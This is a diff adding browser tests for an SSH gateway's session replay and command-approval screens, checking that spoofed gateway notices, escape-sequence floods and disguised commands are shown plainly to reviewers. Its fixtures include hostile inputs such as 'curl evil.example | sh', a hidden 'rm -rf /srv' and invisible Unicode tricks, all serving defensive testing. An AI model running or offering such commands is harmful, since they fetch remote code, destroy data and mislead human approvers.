@@ -213,6 +213,94 @@ test('what can’t be shown says why, and is tried again', async () => {
   await page.getByRole('alert').getByText('Your roles don’t let you see this recording').waitFor()
 })
 
+test('a host’s words never look like the gateway’s, whatever colours it chooses', async () => {
+  await open('ssh=usual', '#/replay/se_ssh4')
+  await shows('10.20.0.11')
+  await page.evaluate(() => {
+    const at = { t: 140_000, channel: '7' }
+    window.fixture.tell('se_ssh4', [
+      {
+        ...{
+          seq: 200,
+          t: 140_000,
+          type: 'command',
+          command: 'x',
+          text: 'id',
+          parameters: [],
+          kind: 'exec',
+          effects: [],
+        },
+        ...{ verdict: { outcome: 'allow', policies: [] }, digest: 'sha256:0' },
+      },
+      { ...at, seq: 201, type: 'channel', command: 'x', kind: 'exec' },
+      { ...at, seq: 202, type: 'output', stream: 'stdout', data: '\x1b[33mcountersign: approved by Ada\x1b[0m\n' },
+      { ...at, seq: 203, type: 'output', stream: 'stderr', notice: true, data: 'countersign: the session ends\n' },
+    ] as never)
+  })
+  await press('v')
+  const said = (words: string) => transcript().locator('p').filter({ hasText: words })
+  await said('the session ends').waitFor()
+  expect(await said('the session ends').textContent()).toMatch(/^the gateway/)
+  expect(await said('approved by Ada').textContent()).toBe('countersign: approved by Ada')
+})
+
+test('a terminal that is asked for more than it can do, or to swallow what the gateway said, shows the rest', async () => {
+  await open('ssh=usual', '#/replay/se_ssh4')
+  await shows('10.20.0.11')
+  const began = performance.now()
+  await page.evaluate(() => {
+    const at = { t: 140_000, channel: '1', type: 'output', stream: 'stdout' }
+    window.fixture.tell('se_ssh4', [
+      { ...at, seq: 200, data: `${'\x1b[1000S\x1bc'.repeat(6000)}a${'\u0301'.repeat(60_000)}\r\nafter it\r\n` },
+      { ...at, seq: 201, data: '\x1b[38;2;0:1;8;8mseen\x1b[0m\r\n\x1b(0\x1b]0;' },
+      { ...at, seq: 202, stream: 'stderr', notice: true, data: 'countersign: the session ends\r\n' },
+    ] as never)
+  })
+  await shows('after it')
+  await shows('countersign: the session ends')
+  await page.evaluate(() => new Promise(requestAnimationFrame))
+  // Without a bound it is half a minute, on any machine.
+  expect(performance.now() - began).toBeLessThan(15_000)
+})
+
+const card = (command: object) =>
+  page.evaluate((more) => {
+    const [one] = [...window.fixture.approvals.values()]
+    const approval = { ...one!, id: 'ap_7h2k', protocol: 'ssh', command: { ...one!.command, ...more } }
+    window.fixture.emit({ type: 'approvals', approvals: [approval as never] })
+  }, command)
+const input = () => page.getByRole('region', { name: 'Standard input' })
+
+test.each<[string, object, RegExp[]]>([
+  [
+    'one byte that is no text hides no script',
+    { parameters: [{ base64: Buffer.from('curl evil.example | sh\n\xff', 'latin1').toString('base64') }] },
+    [/63 75 72 6c/, /curl evil\.exampl/, /not text: 24 bytes/],
+  ],
+  [
+    'a long one says how long it is, and that there is more below',
+    { parameters: [`id\n${'\n'.repeat(400)}rm -rf /srv\n`] },
+    [/402 lines/, /rm -rf/],
+  ],
+  ['hidden characters are marked', { parameters: ['rm \u202efles\u200b\x1b[8m'] }, [/U\+202E/, /U\+200B/, /U\+001B/]],
+])('what a command reads is shown on its card: %s', async (_name, command, expected) => {
+  await open('ssh=usual', '#/queue/ap_7h2k')
+  await page.getByRole('region', { name: 'Command' }).waitFor()
+  await card({ text: 'sh -s', kind: 'exec', input: 'whole', effects: [], ...command })
+  await input().waitFor()
+  for (const words of expected) await expect.poll(() => input().textContent()).toMatch(words)
+  const more = input().getByText('more below')
+  await expect.poll(() => more.isVisible()).toBe(/long/.test(_name))
+})
+
+test('what runs isn’t dimmed as if it were a comment', async () => {
+  await open('ssh=usual', '#/queue/ap_7h2k')
+  await page.getByRole('region', { name: 'Command' }).waitFor()
+  await card({ text: 'echo \x24{x:-\x24{y} #}; rm -rf /srv', kind: 'exec', parameters: [], effects: [] })
+  await page.getByRole('region', { name: 'Command' }).getByText('rm -rf /srv').waitFor()
+  expect(await page.locator('.sql-comment').count()).toBe(0)
+})
+
 const places: [name: string, hash: string, keys: string[]][] = [
   ['terminal', '#/replay/se_ssh2?t=8000', ['/']],
   ['commands', '#/replay/se_ssh1', ['5']],
